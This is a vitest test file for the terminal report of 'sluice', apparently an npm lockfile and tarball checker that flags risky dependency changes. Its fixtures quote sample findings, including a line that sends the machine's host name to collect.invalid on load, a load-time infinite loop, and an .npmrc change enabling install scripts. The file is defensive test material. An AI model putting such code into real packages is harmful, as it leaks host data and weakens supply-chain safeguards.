import { describe, expect, test } from 'vitest';
import type { CheckVerdict } from '../../src/model/check-verdict.ts';
import { columnsOf } from '../../src/report/escape-terminal.ts';
import { renderCheckTerminal } from '../../src/report/render-check-terminal.ts';
import {
  buildCheck,
  buildLockFinding,
  buildLockVerdict,
  buildPackage,
  buildRelease,
  largeCheck,
  mixedCheck,
} from './build-check.ts';
import { buildFinding } from './build-verdict.ts';
import { hostileCheck } from './hostile-check.ts';

const plainly = { columns: 80, paint: (_style: string, text: string): string => text };

function linesOf(check: CheckVerdict, columns = 80): readonly string[] {
  return renderCheckTerminal(check, { ...plainly, columns }).split('\n');
}

describe('renderCheckTerminal', () => {
  test('an allowed change takes a few lines', () => {
    const packages = [
      buildPackage({ name: 'a', to: '10.0.1' }),
      buildPackage({
        name: '@scope/longer',
        direct: false,
        why: ['app', 'a@1.0.1', '@scope/longer@1.0.1'],
        kind: 'downgraded',
      }),
    ];
    expect(renderCheckTerminal(buildCheck({ packages }), plainly)).toBe(`\
allow   2 packages changed (1 direct)
        package-lock.json of app, compared with main (merge base 1a2b3c4)
        all 15 rules checked on the lockfile, all 44 checks made on the tarballs
        of 2 packages

allow  a              1.0.0 → 10.0.1  direct           1 month old
allow  @scope/longer  1.0.0 → 1.0.1   through a@1.0.1  1 month old  downgrade

        sha256-check, sluice 0.1.0
`);
  });

  test('tells of each package once: what, where, how it got there, why it matters, what to do and to take instead', () => {
    expect(renderCheckTerminal(mixedCheck(), plainly)).toBe(`\
block   6 packages changed (5 direct), 1 added, 1 removed; 1 is held back; 1
        could not be decided; 2 need a look; 1 more brings these along; the
        project itself needs a look
        package-lock.json of app, compared with main (merge base 1a2b3c4)
        all 15 rules checked on the lockfile, 114 of 132 checks made on the
        tarballs of 6 packages; not read: 1 package from outside the registry;
        not known here: files of both tarballs (far-away)
missing far-away: The tarball of far-away@3.0.1 could not be fetched: the
        connection timed out.

tick-tock 4.4.0 → 4.4.1, 1 hour old
in      package-lock.json:1502
through app → tick-tock@4.4.1

block   endless-loop-at-load
        a loop that never ends runs when the package is loaded
where   lib/index.js:12
        12 │ for (let i = 666; i < Infinity; i++) {
        13 │   console.log(i);
via     main → lib/index.js
why     Whoever loads it hangs.
do      Stay on the old version.

app itself

review  gate-edited
        .npmrc: added ignore-scripts=false
where   .npmrc:3
why     Whoever can open the gate can send anything through it.
do      Let a person who looks after the gate look at this line.

ripple 2.0.3 → 2.1.0, 1 month old
in      package-lock.json:842 (node_modules/ripple,
        node_modules/quay/node_modules/ripple)
through app → harbour@1.9.0 → ripple@2.1.0
take    2.0.3 instead

review  unforced-change
        2.0.3 still satisfies everything that asks for it, and nothing in this
        change names it
also    package-lock.json:1210
why     Nobody asked for this version, and nobody who depends on it has run it.
do      Put the entry of the base back.

seedling 0.1.0 (new), 1 month old
in      package-lock.json:120
through app → garden@5.1.0 → seedling@0.1.0

review  network-added
        sends a request to collect.invalid when it is loaded
where   main.js:4
        4 │ https.get('https://collect.invalid/?' + os.hostname());
via     main → main.js
why     It did not speak to anybody before.
do      Ask its authors what it is for.

undecided  far-away     3.0.0 → 3.0.1  direct  1 month old  not known: files of
        both tarballs
review     garden       5.0.0 → 5.1.0  direct  1 month old  because of
        seedling@0.1.0
allow      @scope/calm  1.0.0 → 1.0.1  direct  1 month old
allow      own-fork     1.0.0 → 1.1.0  direct  age unknown  contents not read
removed left-over 0.9.0

next    Do not take this change.
fix     \`sluice fix\` writes the lockfile with ripple 2.1.0 → 2.0.3
        Looked into it, and it is fine? Say so under "exemptions" in
        sluice.json:
        { "package": "tick-tock@4.4.1", "rule": "endless-loop-at-load",
        "reason": "…", "expires": "YYYY-MM-DD" }
        sha256-check, sluice 0.1.0
`);
  });

  test('says why a rule matters with its first review, and with everything that blocks', () => {
    const lines = linesOf(largeCheck(13), 120);
    expect(lines.filter((line) => line === 'why     Whoever loads it hangs.')).toHaveLength(2);
    expect(lines.filter((line) => line === 'why     as for package-000')).toHaveLength(4);
  });

  test('lists 30 packages that pass, and counts the others', () => {
    const packages = Array.from({ length: 34 }, (_, at) => buildPackage({ name: `p${at}` }));
    const unread = buildPackage({ name: 'q', release: undefined, unread: undefined });
    const lines = linesOf(buildCheck({ result: 'undecided', packages: [...packages, unread] }));
    expect(lines.filter((line) => line.startsWith('undecided  q'))).toHaveLength(1);
    expect(lines.filter((line) => line.startsWith('allow      p'))).toHaveLength(29);
    expect(lines).toContain('        and 5 more: allow');
  });

  test('a change of a thousand packages is told in full at first, then in brief, and then counted', () => {
    const lines = linesOf(largeCheck(1_000), 120);
    expect(lines.filter((line) => /^(block|review) {2,3}endless-loop-at-load$/.test(line))).toHaveLength(25);
    expect(lines.filter((line) => /^(block|review) {2,3}endless-loop-at-load: /.test(line))).toHaveLength(50);
    expect(lines).toContain('        225 more findings are in the JSON report');
    expect(lines.length).toBeLessThan(800);
  });

  test('notices name their package, and many are counted', () => {
    const lines = linesOf(largeCheck(40), 120);
    expect(lines).toContain(
      'notice  package-003: endless-loop-at-load: a loop that never ends runs when the package is loaded (lib/index.js:12)',
    );
    expect(lines).toContain('        and 18 more notices');
  });

  test('a lockfile that blocks by itself is told without a word about what was not asked', () => {
    const finding = buildLockFinding({
      level: 'block',
      rule: 'lock-in-sync',
      package: { name: 'app', version: '1.0.0' },
    });
    const packages = [buildPackage({ release: undefined, unread: 'blocked-before' })];
    const lock = buildLockVerdict({ result: 'block', findings: [finding] });
    const lines = linesOf(buildCheck({ result: 'block', lock, packages, stopped: true }), 120);
    expect(lines[0]).toBe('block   1 package changed (1 direct); 1 not read yet; the lockfile itself is held back');
    expect(lines[2]).toContain('no registry was asked, since the lockfile alone blocks');
    expect(lines).toContain('undecided  sample  1.0.0 → 1.0.1  direct  1 month old  not read yet');
  });

  test('of many packages that were not read yet only the names are told', () => {
    const finding = buildLockFinding({
      level: 'block',
      rule: 'lock-in-sync',
      package: { name: 'app', version: '1.0.0' },
    });
    const packages = Array.from({ length: 12 }, (_, at) =>
      buildPackage({ name: `sample-${at}`, release: undefined, unread: 'blocked-before' }),
    );
    const lock = buildLockVerdict({ result: 'block', findings: [finding] });
    const text = linesOf(buildCheck({ result: 'block', lock, packages, stopped: true }), 120)
      .join(' ')
      .replaceAll(/ +/g, ' ');
    expect(text).toContain('12 packages changed');
    expect(text).toMatch(/ unread sample-0 1\.0\.0 → 1\.0\.1, sample-1 .* and 2 more /);
    expect(text).not.toContain('undecided');
  });

  test('an exempted finding holds nothing back, and is told with its reason', () => {
    const exemption = { package: 'sample', rule: 'output-at-load', reason: 'a banner', expires: '2026-02-01' };
    const findings = [buildFinding({ rule: 'output-at-load', message: 'prints', exemption })];
    const lines = linesOf(
      buildCheck({ packages: [buildPackage({ release: buildRelease('sample', '1.0.1', { findings }) })] }),
    );
    expect(lines).toContain('policy  exempted until 2026-02-01: output-at-load of sample: prints (a banner)');
    expect(lines.some((line) => line.startsWith('why'))).toBe(false);
  });

  test('a package with findings that could not be looked at as a whole is said to be undecided', () => {
    const finding = buildLockFinding({ package: { name: 'sample', version: '1.0.1' } });
    const lock = buildLockVerdict({ result: 'review', findings: [finding] });
    const packages = [buildPackage({ release: undefined })];
    const lines = linesOf(buildCheck({ result: 'undecided', lock, packages }));
    expect(lines).toContain('sample 1.0.0 → 1.0.1, 1 month old, undecided');
  });

  test('undecided is never painted as allow is', () => {
    const packages = [buildPackage({ release: undefined })];
    const painted = renderCheckTerminal(buildCheck({ result: 'undecided', packages }), {
      columns: 120,
      paint: (style, text) => `[${style}]${text}`,
    });
    expect(painted).toContain('[undecided]undecided');
    expect(painted).not.toContain('[allow]');
  });

  test.each([20, 40, 80, 120, 500])('a hostile check at %i columns steers nothing and keeps the width', (columns) => {
    const widest = Math.min(120, Math.max(40, columns));
    for (const line of linesOf(hostileCheck(), columns)) {
      expect(line).not.toMatch(/\p{C}|^\s*::|##\[/u);
      expect(Array.from(line, columnsOf).reduce((sum, width) => sum + width, 0)).toBeLessThanOrEqual(widest);
    }
  });
});
